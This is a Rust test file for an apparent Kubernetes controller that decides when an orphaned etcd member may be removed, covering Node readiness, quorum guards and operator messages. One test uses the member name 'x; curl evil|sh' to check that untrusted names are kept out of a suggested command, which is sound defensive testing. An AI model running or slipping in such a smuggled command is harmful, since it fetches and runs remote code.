use k8s_openapi::api::core::v1::NodeAddress;

use super::super::members::MemberHealth;
use super::super::peers::Received;
use super::super::peers::tests::{A, STRANGER, at, members};
use super::*;

/// Silent from minute 0 on, seen in minute 15.
fn facts() -> Facts {
    Facts {
        id: STRANGER,
        at: at(15),
        ours: None,
        watch: Watch {
            sign: Sign::Silent,
            received: Received::new(),
            since: Some(at(0)),
            at: at(15),
        },
        nodes: Ok(Vec::new()),
        busy: None,
    }
}

/// A Node of its name, whose condition Ready is this since that minute.
fn set_node(facts: &mut Facts, ready: Option<bool>, since: Option<i64>) {
    facts.nodes = Ok(vec![Arc::new(NodeView {
        name: "s".into(),
        ready,
        ready_since: since.map(at),
        ..NodeView::default()
    })]);
}

/// What comes of the proof after a change of it.
fn judged(change: fn(&mut Members, &mut Facts)) -> String {
    let (mut members, mut facts) = (members(), facts());
    change(&mut members, &mut facts);
    match removable(&members, &facts) {
        Ok(since) => format!("silent since {}", since.as_second() / 60),
        Err(Kept::Ours(_)) => "ours".into(),
        Err(Kept::Serves(_)) => "serves".into(),
        Err(Kept::Runs(_)) => "runs".into(),
        Err(Kept::Unproven(_)) => "unproven".into(),
        Err(Kept::Waits(since)) => format!("waits {}", since.as_second() / 60),
        Err(Kept::Guard(obstacle)) => format!("guard {}", obstacle.reason()),
        Err(Kept::Busy(_)) => "busy".into(),
    }
}

type Case = (&'static str, fn(&mut Members, &mut Facts), &'static str);

#[test]
fn a_member_without_machine_is_removed_only_while_it_is_proven_not_to_serve() {
    let removed = "silent since 0";
    let table: [Case; 12] = [
        ("it has no Node", |_, _| {}, removed),
        (
            "its kubelet is lost",
            |_, f| set_node(f, None, Some(-9)),
            removed,
        ),
        (
            "its Node is Ready",
            |_, f| set_node(f, Some(true), Some(-9)),
            "runs",
        ),
        (
            "its Node is not Ready",
            |_, f| set_node(f, Some(false), Some(-9)),
            "runs",
        ),
        (
            "its Node reported nothing",
            |_, f| set_node(f, None, None),
            "unproven",
        ),
        (
            "the Nodes are not known",
            |_, f| f.nodes = Err("why".into()),
            "unproven",
        ),
        (
            "its kubelet was lost later",
            |_, f| set_node(f, None, Some(3)),
            "waits 3",
        ),
        (
            "the cluster's clock is ahead",
            |_, f| set_node(f, None, Some(99)),
            "waits 99",
        ),
        (
            "it was connected lately",
            |_, f| f.watch.since = Some(at(1)),
            "waits 1",
        ),
        (
            "it is connected",
            |_, f| f.watch.sign = Sign::Connected("a".into()),
            "serves",
        ),
        (
            "another receives data from it",
            |_, f| f.watch.sign = Sign::Sends(A),
            "serves",
        ),
        (
            "nobody tells",
            |_, f| f.watch.sign = Sign::Unproven("why".into()),
            "unproven",
        ),
    ];
    for (case, change, expected) in table {
        assert_eq!(judged(change), expected, "{case}");
    }
}

#[test]
fn one_that_does_not_serve_stays_where_it_is_ours_or_the_guard_or_another_change_forbids_it() {
    let removed = "silent since 0";
    let table: [Case; 8] = [
        (
            "it never started, and has no name",
            |m, _| m.list[2].name.clear(),
            removed,
        ),
        (
            "it never voted",
            |m, _| m.list[2].is_learner = true,
            removed,
        ),
        (
            "a Host has it",
            |_, f| f.ours = Some("Host h".into()),
            "ours",
        ),
        (
            "it is not listed any more",
            |m, _| drop(m.list.pop()),
            "guard MemberUnknown",
        ),
        (
            "the quorum is lost",
            |m, _| m.health.clear(),
            "guard TooFewMembersAnswer",
        ),
        (
            "the data is damaged",
            |m, _| m.alarms.push((A, "CORRUPT".into())),
            "guard EtcdCorrupt",
        ),
        (
            "another was added",
            |m, _| {
                m.list.push(Member {
                    id: MemberId(4),
                    is_learner: true,
                    ..Member::default()
                });
            },
            "guard MemberChanging",
        ),
        (
            "a Machine has the turn",
            |_, f| f.busy = Some("Machine m".into()),
            "busy",
        ),
    ];
    for (case, change, expected) in table {
        assert_eq!(judged(change), expected, "{case}");
    }
}

#[test]
fn only_a_join_that_does_not_wait_for_etcd_is_an_obstacle() {
    use TurnAction::{Init, Join, Remove, Upgrade};
    let mut four = members();
    four.list.push(Member {
        id: MemberId(4),
        name: "d".into(),
        ..Member::default()
    });
    four.health.insert(MemberId(4), MemberHealth::Healthy);
    let table = [
        ("over", Init, false, true),
        ("joins, and waits", Join, true, true),
        ("joins", Join, false, false),
        ("leaves, and waits", Remove, true, true),
        ("leaves", Remove, false, true),
        ("is updated, and waits", Upgrade, true, true),
        ("is updated", Upgrade, false, true),
    ];
    for (case, action, waits, expected) in table {
        assert_eq!(is_idle(&members(), action, waits), expected, "{case}");
    }
    assert!(
        !is_idle(&four, Join, true),
        "etcd takes one more: it may begin"
    );
}

#[test]
fn a_node_is_that_of_a_member_by_its_name_or_address() {
    let node = |name: &str, address: &str| NodeView {
        name: name.into(),
        addresses: vec![NodeAddress {
            type_: "InternalIP".into(),
            address: address.into(),
        }],
        ..NodeView::default()
    };
    let stranger = &members().list[2];
    let unnamed = Member {
        name: String::new(),
        ..stranger.clone()
    };
    for (member, node, expected) in [
        (stranger, node("s", "10.0.0.9"), true),
        (stranger, node("x", "10.0.0.3"), true),
        (stranger, node("x", "10.0.0.9"), false),
        (&unnamed, node("", "10.0.0.9"), false),
        (&unnamed, node("x", "10.0.0.3"), true),
    ] {
        assert_eq!(is_node_of(member, &node), expected, "{node:?}");
    }
}

#[test]
fn the_message_says_who_it_is_why_it_stays_and_what_helps() {
    let stranger = &members().list[2];
    let says = |verdict: Result<Timestamp, Kept>| message("n", "c", stranger, &verdict);
    let by_hand = "ctl member remove 3 (ctl: docs/day-2.md#ctl)";
    let table = [
        (
            Ok(at(0)),
            ["1970-01-01T00:00:00Z", "is removed in the next turn"],
        ),
        (
            Err(Kept::Ours("Host h has it".into())),
            ["Host h has it", by_hand],
        ),
        (
            Err(Kept::Serves("its Node s is Ready".into())),
            ["its Node s is Ready", "kubeadm reset"],
        ),
        (Err(Kept::Runs("n".into())), ["Node n may be its", by_hand]),
        (
            Err(Kept::Unproven("why".into())),
            ["nothing proves", by_hand],
        ),
        (
            Err(Kept::Waits(at(0))),
            ["removed at 1970-01-01T00:15:00Z or later", by_hand],
        ),
        (
            Err(Kept::Guard(Obstacle::NoSpace("a".into()))),
            ["once etcd can do without it", "NOSPACE"],
        ),
        (
            Err(Kept::Busy("Machine m has it".into())),
            ["is removed later", "Machine m has it"],
        ),
    ];
    for (verdict, parts) in table {
        let said = says(verdict.clone());
        assert!(said.starts_with(
            "etcd member s (https://10.0.0.3:2380) belongs to no Machine of Cluster c"
        ));
        for part in parts {
            assert!(said.contains(part), "{verdict:?}: no \"{part}\" in: {said}");
        }
    }
}

#[test]
fn what_a_member_calls_itself_stands_in_no_command_unless_it_is_a_name() {
    for (name, shown) in [("s", "s"), ("x; curl evil|sh", "NAME"), ("--all", "NAME")] {
        let member = Member {
            name: name.into(),
            ..members().list[2].clone()
        };
        let said = message("n", "c", &member, &Err(Kept::Serves("why".into())));
        assert!(said.ends_with(&format!(") delete node {shown}")), "{said}");
    }
}
